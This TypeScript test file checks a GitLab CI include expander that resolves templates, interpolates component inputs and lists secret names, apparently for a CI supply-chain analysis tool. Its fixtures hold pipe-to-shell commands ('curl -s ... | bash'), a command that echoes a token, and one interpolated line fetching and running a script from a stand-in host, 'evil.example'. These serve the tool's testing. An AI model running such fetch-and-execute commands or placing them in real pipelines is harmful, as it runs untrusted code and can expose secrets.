import type { ComponentUse, RepoInput } from '../../model';
import { lines, memorySource } from '../../testing';
import { gitlabCi } from './index';
import type { IncludeRef } from './include';
import { JOB_INPUT } from './job';


const CACHE = {
  'gitlab/acme/tpl@v1/ci/coverage.yml': lines(
    'include:',
    '  - local: ci/common.yml',
    '  - remote: https://example.com/extra.yml',
    'variables:',
    '  URL: https://codecov.io/bash',
    '.base:',
    '  image: alpine:3',
    'coverage:',
    '  extends: .base',
    '  script:',
    '    - curl -s $URL | bash',
    '    - echo $CODECOV_TOKEN',
    'other:',
    '  script: [make other]',
  ),
  'gitlab/acme/tpl@v1/ci/common.yml': lines('.common:', '  script: [echo common]'),
};

const repo: RepoInput = { repo: 'acme/app', files: [{ path: 'ci/local.yml', text: lines('local-job:', '  script: [bash <(curl -s https://codecov.io/bash)]') }] };

function use(ref: IncludeRef, inputs?: Record<string, string>): ComponentUse {
  return inputs ? { ref, pos: { file: '.gitlab-ci.yml', line: 3 }, inputs } : { ref, pos: { file: '.gitlab-ci.yml', line: 3 } };
}

const project: IncludeRef = { kind: 'gitlab-include', include: 'project', project: 'acme/tpl', ref: 'v1', file: 'ci/coverage.yml', raw: 'acme/tpl@v1' };

describe('gitlabCi.expand', () => {
  it('says it expands gitlab-include', () => {
    expect(gitlabCi.expands).toEqual(['gitlab-include']);
  });

  it('a project include: every job’s scripts (variables expanded), images, nested includes, secret names', () => {
    const x = gitlabCi.expand(use(project), { repo, source: memorySource(CACHE) });
    expect(x.status).toBe('resolved');
    expect(x.scripts).toEqual([
      { text: 'curl -s https://codecov.io/bash | bash\necho $CODECOV_TOKEN', pos: { file: 'acme/tpl@v1//ci/coverage.yml', line: 11 } },
      { text: 'make other', pos: { file: 'acme/tpl@v1//ci/coverage.yml', line: 14 } },
    ]);
    expect(x.uses.map((u) => `${u.ref.kind}:${u.ref.raw}@${u.pos.file}:${u.pos.line}`)).toEqual([
      'gitlab-include:acme/tpl@v1@acme/tpl@v1//ci/coverage.yml:2',
      'gitlab-include:https://example.com/extra.yml@acme/tpl@v1//ci/coverage.yml:3',
      'image:alpine:3@acme/tpl@v1//ci/coverage.yml:7',
    ]);
    // The nested local include is a file of the same project at the same ref.
    expect(x.uses[0]!.ref).toMatchObject({ include: 'project', project: 'acme/tpl', ref: 'v1', file: 'ci/common.yml' });
    expect(x.secrets.map((s) => `${s.kind}:${s.name}`)).toEqual(['variable:CODECOV_TOKEN']);
    expect(x.errors).toEqual([]);
  });

  it('narrowed to the names a job draws from the file; nested includes carry the same tag', () => {
    const x = gitlabCi.expand(use(project, { [JOB_INPUT]: 'other' }), { repo, source: memorySource(CACHE) });
    expect(x.scripts.map((s) => s.text)).toEqual(['make other']);
    expect(x.uses.map((u) => [u.ref.raw, u.inputs])).toEqual([
      ['acme/tpl@v1', { [JOB_INPUT]: 'other' }],
      ['https://example.com/extra.yml', { [JOB_INPUT]: 'other' }],
    ]);
    const two = gitlabCi.expand(use(project, { [JOB_INPUT]: 'other\ncoverage' }), { repo, source: memorySource(CACHE) });
    expect(two.scripts.map((s) => s.text)).toEqual(['curl -s https://codecov.io/bash | bash\necho $CODECOV_TOKEN', 'make other']);
    expect(two.uses.map((u) => u.ref.raw)).toEqual(['acme/tpl@v1', 'https://example.com/extra.yml', 'alpine:3']);
    const none = gitlabCi.expand(use(project, { [JOB_INPUT]: '' }), { repo, source: memorySource(CACHE) });
    expect([none.scripts, none.uses.length]).toEqual([[], 2]);
  });

  it('a local include reads the repository', () => {
    const x = gitlabCi.expand(use({ kind: 'gitlab-include', include: 'local', file: 'ci/local.yml', raw: 'ci/local.yml' }), { repo, source: memorySource({}) });
    expect(x.scripts).toEqual([{ text: 'bash <(curl -s https://codecov.io/bash)', pos: { file: 'ci/local.yml', line: 2 } }]);
  });

  it('missing definitions are unresolved, with where the source looked', () => {
    const source = memorySource({});
    const remote: IncludeRef = { kind: 'gitlab-include', include: 'remote', file: 'https://example.com/ci/missing.yml', raw: 'https://example.com/ci/missing.yml' };
    expect(gitlabCi.expand(use(remote), { repo, source })).toEqual({ status: 'unresolved', reason: source.describe(remote), uses: [], scripts: [], secrets: [], errors: [], inputsIgnored: true });
    expect(source.reads).toEqual(['gitlab/remote/example.com/ci/missing.yml']);
    const local = gitlabCi.expand(use({ kind: 'gitlab-include', include: 'local', file: 'nope.yml', raw: 'nope.yml' }), { repo, source });
    expect(local).toMatchObject({ status: 'unresolved', reason: 'local include nope.yml is not in repository acme/app' });
  });

  it('components: spec inputs from the use (or defaults) are interpolated', () => {
    const comp: IncludeRef = { kind: 'gitlab-include', include: 'component', project: 'acme/comp', ref: '1.0', file: 'upload', raw: 'gitlab.com/acme/comp/upload@1.0' };
    const source = memorySource({
      'gitlab/acme/comp@1.0/templates/upload/template.yml': lines('spec:', '  inputs:', '    url:', '      default: https://codecov.io/bash', '---', 'upload:', '  script: [curl -s $[[ inputs.url ]] | sh]'),
    });
    expect(gitlabCi.expand(use(comp), { repo, source }).scripts).toEqual([{ text: 'curl -s https://codecov.io/bash | sh', pos: { file: 'gitlab.com/acme/comp/upload@1.0//templates/upload/template.yml', line: 7 } }]);
    expect(gitlabCi.expand(use(comp, { url: 'https://evil.example/x' }), { repo, source }).scripts[0]!.text).toBe('curl -s https://evil.example/x | sh');
  });

  it('a broken included file is resolved with its located errors, never a throw', () => {
    const x = gitlabCi.expand(use(project), { repo, source: memorySource({ 'gitlab/acme/tpl@v1/ci/coverage.yml': 'a: [\n' }) });
    expect(x.status).toBe('resolved');
    expect(x.errors[0]).toMatchObject({ file: 'acme/tpl@v1//ci/coverage.yml', code: 'yaml-syntax' });
  });

  it('matches what parse merged for the same include', () => {
    const main = lines('include:', '  - project: acme/tpl', '    ref: v1', '    file: ci/coverage.yml');
    const { pipelines } = gitlabCi.parse({ repo: 'acme/app', files: [{ path: '.gitlab-ci.yml', text: main }] }, memorySource(CACHE));
    const coverage = pipelines[0]!.jobs.find((j) => j.id === 'coverage')!;
    const script = coverage.steps.find((s) => s.name === 'script')!;
    const x = gitlabCi.expand(script.from![0]!, { repo, source: memorySource(CACHE) });
    expect(x.scripts).toEqual([{ text: script.run, pos: script.runPos }]);
    expect(script.runPos).toEqual({ file: 'acme/tpl@v1//ci/coverage.yml', line: 11 });
  });
});
